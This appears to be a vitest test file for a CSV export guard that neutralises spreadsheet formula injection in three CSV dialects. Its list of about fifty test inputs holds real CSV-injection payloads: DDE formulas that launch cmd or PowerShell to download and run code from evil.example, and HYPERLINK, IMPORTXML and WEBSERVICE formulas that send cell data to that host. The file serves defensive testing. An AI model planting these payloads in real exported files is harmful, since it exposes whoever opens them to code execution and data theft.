// Goal: no cell of a package's table is run by a spreadsheet, and what people really write stays as it is.
// Method: each known way to begin a formula, alone and behind what spreadsheets skip, in three dialects of CSV: a sheet that
// splits at commas, one that splits at semicolons and one that splits at tabs. Counted, so that none is lost.
import { expect, test } from "vitest";
import { guardFormula } from "../../../platform/csv_write.ts";
import { csvRow } from "./csv.ts";

const acts = [
  "=1+1",
  "=SUM(A1:A9)",
  "=cmd|'/C calc'!A0",
  "=cmd|' /C powershell IEX(wget evil.example/x)'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '=IMPORTDATA("http://evil.example")',
  '=IMAGE("http://evil.example/x.png")',
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  "=-2+3+cmd|' /C calc'!D2",
  "=@SUM(1+1)",
  "==1+1",
  "=\n1+1",
  "+1+cmd|'/C calc'!A0",
  "+SUM(1+1)",
  "+HYPERLINK(A1)",
  "-1+cmd|'/C calc'!A0",
  "-2+3+SUM(A1)",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  "@A1",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\r\n=1+1",
  " =1+1",
  "   =1+1",
  "\u00a0=1+1",
  "\u2003=1+1",
  "\u3000=1+1",
  "\ufeff=1+1",
  "\u200b=1+1",
  "\u200e=1+1",
  "\u202e=1+1",
  "\0=1+1",
  "\u0007=1+1",
  "\u001b=1+1",
  '"=1+1',
  '""=1+1',
  '"\t=1+1"',
  "\uff1d1+1",
  "\uff0b1+cmd|x",
  "\uff0d1+cmd|x",
  "\uff20SUM(1)",
  "\u22121+cmd|x",
  "\ufe661+1",
  "\ufe621+cmd|x",
  "\ufe631+cmd|x",
  "\ufe6bSUM(1)",
  "\u207a1+cmd|x",
  "\u207b1+cmd|x",
] as const;
const legitimate = [
  "-5",
  "+44 20 7946 0958",
  "-",
  "--",
  "mei.tan@example.org",
  "5 + 3 = 8",
  "A-1",
  "2026-03-02",
];

test("fifty ways to begin a formula begin none, in three dialects", () => {
  expect(acts.length).toBeGreaterThanOrEqual(50);
  for (const text of acts) {
    expect([text, guardFormula(text).startsWith("'")]).toEqual([text, true]);
    for (const before of ["", "Mei Tan;", "Mei Tan\t", "two\n"]) {
      const row = csvRow([
        { kind: "text", text: before + text },
        { kind: "text", text: "after" },
      ]);
      // One row of two cells, whatever they hold, to a reader of the standard.
      expect(row.endsWith(',"after"\r\n')).toBe(true);
      // What another separator makes of it acts on nothing: a formula that calls, pipes or reaches out is held.
      for (const part of row.split(/[;\t\r\n]/)) {
        const cell = part.replace(/^[\s"\p{Cc}\p{Cf}]+/u, "");
        const runs = /^[=+\-@\uff1d\uff0b\uff0d\uff20]/u.test(cell) && /[(|!]/.test(cell);
        expect([row, part, runs]).toEqual([row, part, false]);
      }
    }
  }
});

test("what people write with the same signs is not touched", () => {
  expect(legitimate.map(guardFormula)).toEqual(legitimate);
});
